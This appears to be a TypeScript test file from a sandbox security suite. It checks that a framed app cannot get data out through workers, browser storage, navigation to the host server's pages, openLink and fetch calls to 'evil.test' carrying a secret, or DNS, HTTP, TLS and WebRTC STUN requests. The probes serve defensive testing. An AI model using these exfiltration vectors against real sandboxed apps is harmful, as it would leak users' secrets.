// Ways out that ask the host page or the server, and the proof that the sinks hear everything.
import { type Stage, until } from "../arena/stage.ts";
import type { Finding, Vector } from "../arena/vector.ts";
import type { Case } from "./case.ts";
import { absent, check, removed } from "./check.ts";

/** Case 48: where the frame goes when it wants to go to a page of the server's own. */
async function towardsHost(stage: Stage, path: string): Promise<Finding> {
  const code = `document.addEventListener("click", ({ target }) => { if (target.id !== "go") return; window.hostileTried = true; location.href = ${JSON.stringify(stage.target.origin + path)}; });`;
  const control = await stage.control(code);
  await control.clickInFrame("#go");
  const arrived = async () => (await control.url()).startsWith(stage.target.origin);
  await until("the control arrives", arrived, 5_000).catch(() => {});
  const proof = await arrived();

  const tab = await stage.run(code);
  await tab.clickInFrame("#go");
  // One browser shows an error in the frame, which the host page removes; another stays where it is.
  const error = await removed(tab, 2_500).catch(() => "");
  const tried = error !== "" || (await tab.inFrame(() => (window as any).hostileTried === true));
  const documents = (await tab.frames()).join(" ");
  const held = proof && tried && !documents.includes(stage.target.origin);
  return check(path, held, `${error || "The frame stays where it was."} It holds ${documents}; the control arrived`);
}

const kinds: readonly Vector[] = [
  { name: "dns", attack: ({ host }) => fetch(`http://${host}:81/`) },
  { name: "http", attack: ({ http }) => fetch(http, { mode: "no-cors" }) },
  { name: "tls", attack: ({ https }) => fetch(https, { mode: "no-cors" }) },
  {
    name: "udp",
    attack: async ({ ip, udp }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${ip}:${udp}` }] });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
      Object.assign(window, { hostileKeep: connection });
    },
  },
];

/** Cases 44 and 48 to 51. */
export const asks: readonly Case[] = [
  {
    id: 44,
    title: "shared and service workers",
    category: "exfiltration",
    async run(stage) {
      const tab = await stage.run("");
      const seen = await tab.inFrame(async () => {
        const url = URL.createObjectURL(new Blob(["onconnect = () => {}"], { type: "text/javascript" }));
        const tries: Record<string, () => unknown> = {
          "shared worker": () => {
            const shared = new SharedWorker(url);
            return new Promise((resolve, reject) => {
              shared.onerror = () => reject(new DOMException("", "did not start"));
              shared.port.start();
              setTimeout(() => resolve("started"), 500);
            });
          },
          "service worker": () => navigator.serviceWorker.register("js/app.js"),
          caches: () => caches.open("evil"),
          IndexedDB: () =>
            new Promise((resolve, reject) => {
              const request = indexedDB.open("evil");
              request.onsuccess = resolve;
              request.onerror = () => reject(request.error);
            }),
          "file system": () => navigator.storage.getDirectory(),
          "cookie store": () => (window as any).cookieStore.set("evil", "1"),
        };
        const results: Record<string, string> = {};
        for (const [name, attack] of Object.entries(tries)) {
          try {
            await attack();
            results[name] = "worked";
          } catch (error) {
            results[name] = (error as Error).name;
          }
        }
        return results;
      });
      return Object.entries(seen).map(([name, result]) => check(name, result !== "worked", result));
    },
  },
  {
    id: 48,
    title: "navigating to the server's own pages",
    category: "exfiltration",
    async run(stage) {
      const paths = ["/", "/login", "/api/apps", "/settings", "/?token=x"];
      return await Promise.all(paths.map((path) => towardsHost(stage, path)));
    },
  },
  {
    id: 49,
    title: "openLink with a secret in the address",
    category: "exfiltration",
    run: async (stage) => [await absent(stage, "ui.openLink", { url: "http://evil.test/?secret" })],
  },
  {
    id: 50,
    title: "http.fetch without a grant",
    category: "exfiltration",
    run: async (stage) => [await absent(stage, "http.fetch", { url: "http://evil.test/?secret" })],
  },
  {
    id: 51,
    title: "the sinks hear everything",
    category: "exfiltration",
    run: (stage) => stage.hear(51, kinds),
  },
];
